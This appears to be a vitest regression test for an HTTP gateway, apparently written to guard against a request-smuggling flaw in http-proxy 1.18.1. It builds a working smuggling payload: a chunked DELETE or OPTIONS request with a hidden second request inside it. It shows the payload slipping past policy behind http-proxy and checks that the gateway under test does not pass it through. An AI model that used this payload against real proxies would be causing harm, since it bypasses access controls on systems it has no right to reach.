import { once } from 'node:events';
import { Agent, createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { createRequire } from 'node:module';
import type { AddressInfo } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { describe, expect, it } from 'vitest';
import { startLab } from '../support/lab.ts';
import { startOrigin } from '../support/origin.ts';
import { RawConnection } from '../support/raw-client.ts';

/** As much of http-proxy 1.18.1 as is used here; it brings no types. */
interface HttpProxy {
  createProxyServer(options: { readonly agent: Agent }): {
    web(request: IncomingMessage, response: ServerResponse, options: { readonly target: string }): void;
    on(event: 'error', listener: () => void): void;
  };
}
const httpProxy = createRequire(import.meta.url)('http-proxy') as HttpProxy;

const PATH = '/smuggled-past-policy';
const CONTENT = `GET ${PATH} HTTP/1.1\r\nHost: smuggled.example\r\n\r\n`;
const smuggling = (target: string, host: string, method: string): string =>
  `${method} ${target} HTTP/1.1\r\nHost: ${host}\r\nTransfer-Encoding: chunked\r\n\r\n` +
  `${CONTENT.length.toString(16)}\r\n${CONTENT}\r\n0\r\n\r\n`;

// CVE-2026-29057: http-proxy announces an empty DELETE or OPTIONS and sends its content all the same. On a connection that
// is kept, the origin takes the content for the next request, which no policy has seen.
describe.each(['DELETE', 'OPTIONS'])('a request in the content of a chunked %s', (method) => {
  it('is executed behind http-proxy (the attack is real)', async () => {
    await using origin = await startOrigin();
    const seen: string[] = [];
    const agent = new Agent({ keepAlive: true });
    const proxy = httpProxy.createProxyServer({ agent });
    proxy.on('error', () => {});
    const server = createServer((request, response) => {
      seen.push(`${request.method} ${request.url}`);
      proxy.web(request, response, { target: `http://${origin.authority}` });
    });
    await once(server.listen(0, '127.0.0.1'), 'listening');
    const { port } = server.address() as AddressInfo;
    await using client = await RawConnection.open({ address: '127.0.0.1', port });
    client.send(smuggling('/ok', origin.authority, method));
    const requests = await origin.waitForRequests(2);
    expect(seen).toEqual([`${method} /ok`]);
    expect(requests.map(({ target }) => target)).toEqual(['/ok', PATH]);
    agent.destroy();
    server.close();
    server.closeAllConnections();
  });

  it('is content behind this gateway, in the clear and in a tunnel', async () => {
    const [plain, secure] = ['plain.de.lab.example', 'secure.de.lab.example'] as const;
    await using lab = await startLab({
      origins: { [plain]: { country: 'DE' }, [secure]: { country: 'DE', tls: 'good' } },
      rules: ['{ id: germany, to: [plain-de-lab-example, secure-de-lab-example], then: permit }'],
    });
    const asks = {
      [plain]: { client: await lab.connect(), prefix: `http://${lab.authority(plain)}` },
      [secure]: { client: await lab.https(secure), prefix: '' },
    };
    for (const [name, { client, prefix }] of Object.entries(asks)) {
      client.send(smuggling(`${prefix}/ok`, lab.authority(name), method));
      expect((await client.response(method)).status).toBe(200);
      // On the connection that was kept, the next request is the next one.
      client.send(`GET ${prefix}/next HTTP/1.1\r\nHost: ${lab.authority(name)}\r\n\r\n`);
      expect((await client.response()).status).toBe(200);
      await pause(50);
      const { requests } = lab.origin(name);
      expect(requests.map((request) => [request.method, request.target, request.content.toString()])).toEqual([
        [method, '/ok', CONTENT],
        ['GET', '/next', ''],
      ]);
      client.socket.destroy();
    }
  });
});
